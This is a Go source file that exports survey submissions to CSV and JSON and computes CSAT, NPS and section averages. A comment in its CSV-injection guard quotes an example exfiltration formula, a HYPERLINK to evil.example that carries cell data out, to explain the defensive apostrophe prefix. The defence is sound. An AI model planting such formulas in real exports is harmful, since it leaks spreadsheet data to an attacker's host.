package dialogs

import (
	"encoding/csv"
	"encoding/json"
	"io"
	"slices"
	"sort"
	"strconv"
	"strings"
	"time"
)

// Submission is a submitted response as staff read it: what was asked, where,
// and the answers.
type Submission struct {
	ID            int64     `json:"id"`
	Ref           string    `json:"ref"`
	Kind          string    `json:"kind"`
	Questionnaire string    `json:"questionnaire"`
	Version       int       `json:"version"`
	Centre        string    `json:"centre"`
	CentreNote    string    `json:"centre_note,omitempty"` // the person's words for a centre not in the list
	Desk          int       `json:"desk,omitempty"`
	Lang          string    `json:"language"`
	Started       time.Time `json:"started"`
	Submitted     time.Time `json:"submitted"`
	Answers       Answers   `json:"answers"`
}

// Ref is the reference number a person gets for a response: M-42 for a
// mystery-shopper questionnaire, R-42 for a rating.
func Ref(kind string, id int64) string {
	p := "R"
	if kind == KindMystery {
		p = "M"
	}
	return p + "-" + strconv.FormatInt(id, 10)
}

// Cell renders an answer for a spreadsheet: option ids joined by ";",
// numbers, text, "skipped".
func (a Answer) Cell() string {
	switch {
	case a.Skipped:
		return "skipped"
	case a.Number != nil:
		return strconv.Itoa(*a.Number)
	case len(a.Choice) > 0:
		return strings.Join(a.Choice, ";")
	}
	return a.Text
}

// WriteCSV writes one row per result and one column per question id of the
// questionnaires given (in their order), after the fixed columns. Answers
// to questions a definition no longer has get columns of their own at the
// end, so nothing given is lost.
func WriteCSV(w io.Writer, qs []*Questionnaire, rs []Submission) error {
	seen := map[string]bool{}
	var keys []string
	for _, r := range rs {
		for id := range r.Answers {
			if !seen[id] {
				seen[id] = true
				keys = append(keys, id)
			}
		}
	}
	cw, err := NewResultsCSV(w, qs, keys)
	if err != nil {
		return err
	}
	for _, r := range rs {
		if err := cw.Write(r); err != nil {
			return err
		}
	}
	return cw.Flush()
}

// ResultsCSV writes results one at a time, as they are read: an export of
// any size takes the memory of one row.
type ResultsCSV struct {
	cw   *csv.Writer
	cols []string
}

// NewResultsCSV writes the header: the fixed columns, the questions of qs
// in their order, then those of answerKeys (every answer id the results
// will carry) that no questionnaire has, sorted.
func NewResultsCSV(w io.Writer, qs []*Questionnaire, answerKeys []string) (*ResultsCSV, error) {
	cols := []string{}
	seen := map[string]bool{}
	for _, q := range qs {
		for _, s := range q.Sections {
			for _, qq := range s.Questions {
				if !seen[qq.ID] {
					seen[qq.ID] = true
					cols = append(cols, qq.ID)
				}
			}
		}
	}
	var extra []string
	for _, id := range answerKeys {
		if !seen[id] {
			seen[id] = true
			extra = append(extra, id)
		}
	}
	sort.Strings(extra)
	cols = append(cols, extra...)
	fixed := []string{"ref", "kind", "questionnaire", "version", "centre", "desk", "language", "started", "submitted"}
	head := append([]string{}, fixed...)
	for _, c := range cols {
		// A question id that is also a fixed column's name (a "centre"
		// question) gets a prefix, so that both columns can be told apart.
		if slices.Contains(fixed, c) {
			c = "q_" + c
		}
		head = append(head, c)
	}
	cw := csv.NewWriter(w)
	if err := cw.Write(safeCells(head)); err != nil {
		return nil, err
	}
	return &ResultsCSV{cw: cw, cols: cols}, nil
}

// Write writes one result's row.
func (c *ResultsCSV) Write(r Submission) error {
	desk := ""
	if r.Desk != 0 {
		desk = strconv.Itoa(r.Desk)
	}
	row := []string{r.Ref, r.Kind, r.Questionnaire, strconv.Itoa(r.Version), r.Centre, desk, r.Lang,
		r.Started.UTC().Format(time.RFC3339), r.Submitted.UTC().Format(time.RFC3339)}
	for _, col := range c.cols {
		a, ok := r.Answers[col]
		cell := ""
		if ok && !a.Pending {
			cell = a.Cell()
		}
		row = append(row, cell)
	}
	return c.cw.Write(safeCells(row))
}

// Flush writes out what is buffered.
func (c *ResultsCSV) Flush() error {
	c.cw.Flush()
	return c.cw.Error()
}

// safeCells keeps a spreadsheet from reading a cell as a formula: a cell
// that starts with = + - @, a tab or a carriage return gets a leading
// apostrophe (OWASP's advice on CSV injection). A citizen's comment
// =HYPERLINK("http://evil.example/?x="&A1,"click") is then text.
func safeCells(row []string) []string {
	for i, c := range row {
		if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
			row[i] = "'" + c
		}
	}
	return row
}

// WriteJSON writes the results as a JSON array.
func WriteJSON(w io.Writer, rs []Submission) error {
	jw := NewResultsJSON(w)
	for _, r := range rs {
		if err := jw.Write(r); err != nil {
			return err
		}
	}
	return jw.Close()
}

// ResultsJSON writes results as a JSON array one at a time, as they are
// read.
type ResultsJSON struct {
	w io.Writer
	n int
}

// NewResultsJSON starts a JSON array on w.
func NewResultsJSON(w io.Writer) *ResultsJSON { return &ResultsJSON{w: w} }

// Write adds one result to the array.
func (j *ResultsJSON) Write(r Submission) error {
	b, err := json.MarshalIndent(r, "  ", "  ")
	if err != nil {
		return err
	}
	sep := "[\n  "
	if j.n > 0 {
		sep = ",\n  "
	}
	j.n++
	_, err = io.WriteString(j.w, sep+string(b))
	return err
}

// Close ends the array ([] when nothing was written).
func (j *ResultsJSON) Close() error {
	end := "\n]\n"
	if j.n == 0 {
		end = "[]\n"
	}
	_, err := io.WriteString(j.w, end)
	return err
}

// Summary is what /stats shows of a set of results.
type Summary struct {
	Count    int
	Criteria map[string]float64 // criterion (time, queue, staff, comfort, info) → average 1–5
	Scores   int                // 1–5 scores counted
	CSAT     float64            // share of 1–5 scores that are 4 or 5, 0–100
	NPS      float64            // promoters minus detractors, −100…100
	NPSCount int                // answers to the 0–10 question
}

// Tally is what the statistics need of one question's numeric answers
// within one kind of questionnaire and one centre: how many there are, their
// sum, and how many are 4 or more (satisfied, on a 1–5 scale), 9 or more
// (promoters, on 0–10) and 6 or less (detractors). PostgreSQL computes the
// same tallies (store.ResponseTallies), so that statistics over any number
// of responses take no more memory than their questions.
type Tally struct {
	Kind       string `db:"kind"`
	Centre     string `db:"centre"`
	Question   string `db:"question"`
	N          int    `db:"n"`
	Sum        int    `db:"sum"`
	Good       int    `db:"good"`
	Promoters  int    `db:"promoters"`
	Detractors int    `db:"detractors"`
}

// Tallies counts the numeric answers of rs (skipped ones aside), by kind,
// centre and question, sorted.
func Tallies(rs []Submission) []Tally {
	type key struct{ kind, centre, question string }
	at := map[key]*Tally{}
	for _, r := range rs {
		for id, a := range r.Answers {
			if a.Number == nil || a.Skipped {
				continue
			}
			k := key{r.Kind, r.Centre, id}
			t := at[k]
			if t == nil {
				t = &Tally{Kind: r.Kind, Centre: r.Centre, Question: id}
				at[k] = t
			}
			n := *a.Number
			t.N++
			t.Sum += n
			if n >= 4 {
				t.Good++
			}
			if n >= 9 {
				t.Promoters++
			}
			if n <= 6 {
				t.Detractors++
			}
		}
	}
	out := make([]Tally, 0, len(at))
	for _, t := range at {
		out = append(out, *t)
	}
	sort.Slice(out, func(i, j int) bool {
		a, b := out[i], out[j]
		if a.Kind != b.Kind {
			return a.Kind < b.Kind
		}
		if a.Centre != b.Centre {
			return a.Centre < b.Centre
		}
		return a.Question < b.Question
	})
	return out
}

// Summarize computes averages per criterion, CSAT over every 1–5 score, and
// NPS over the 0–10 question.
func Summarize(qs map[string]*Questionnaire, rs []Submission) Summary {
	return SummarizeTallies(qs, len(rs), Tallies(rs))
}

// SummarizeTallies is Summarize over the tallies of count responses.
func SummarizeTallies(qs map[string]*Questionnaire, count int, ts []Tally) Summary {
	s := Summary{Count: count, Criteria: map[string]float64{}}
	sums := map[string]int{}
	counts := map[string]int{}
	good, promoters, detractors := 0, 0, 0
	for _, t := range ts {
		q := qs[t.Kind]
		if q == nil {
			continue
		}
		qq := q.Question(t.Question)
		switch {
		case qq != nil && qq.Type == QuestionRating5:
			s.Scores += t.N
			good += t.Good
			c := qq.Criterion
			if c == "" {
				c = "overall_" + qq.ID
			}
			sums[c] += t.Sum
			counts[c] += t.N
		case qq != nil && qq.Type == QuestionScale10:
			s.NPSCount += t.N
			promoters += t.Promoters
			detractors += t.Detractors
		}
	}
	for c, n := range counts {
		s.Criteria[c] = float64(sums[c]) / float64(n)
	}
	if s.Scores > 0 {
		s.CSAT = 100 * float64(good) / float64(s.Scores)
	}
	if s.NPSCount > 0 {
		s.NPS = 100 * float64(promoters-detractors) / float64(s.NPSCount)
	}
	return s
}

// SectionAverages averages the 1–5 scores of each section of q over the
// results given: section id → average, for sections with any score.
func SectionAverages(q *Questionnaire, rs []Submission) map[string]float64 {
	ts := Tallies(rs)
	for i := range ts {
		ts[i].Kind = q.Kind // rs are q's, whatever kind they name
	}
	return SectionAveragesOf(q, ts)
}

// SectionAveragesOf is SectionAverages over tallies (those of other
// questionnaires are passed over).
func SectionAveragesOf(q *Questionnaire, ts []Tally) map[string]float64 {
	sums := map[string]int{}
	counts := map[string]int{}
	for _, t := range ts {
		if t.Kind != q.Kind {
			continue
		}
		qq := q.Question(t.Question)
		if qq == nil || qq.Type != QuestionRating5 {
			continue
		}
		if sec := q.SectionOf(t.Question); sec != nil {
			sums[sec.ID] += t.Sum
			counts[sec.ID] += t.N
		}
	}
	out := map[string]float64{}
	for id, n := range counts {
		out[id] = float64(sums[id]) / float64(n)
	}
	return out
}
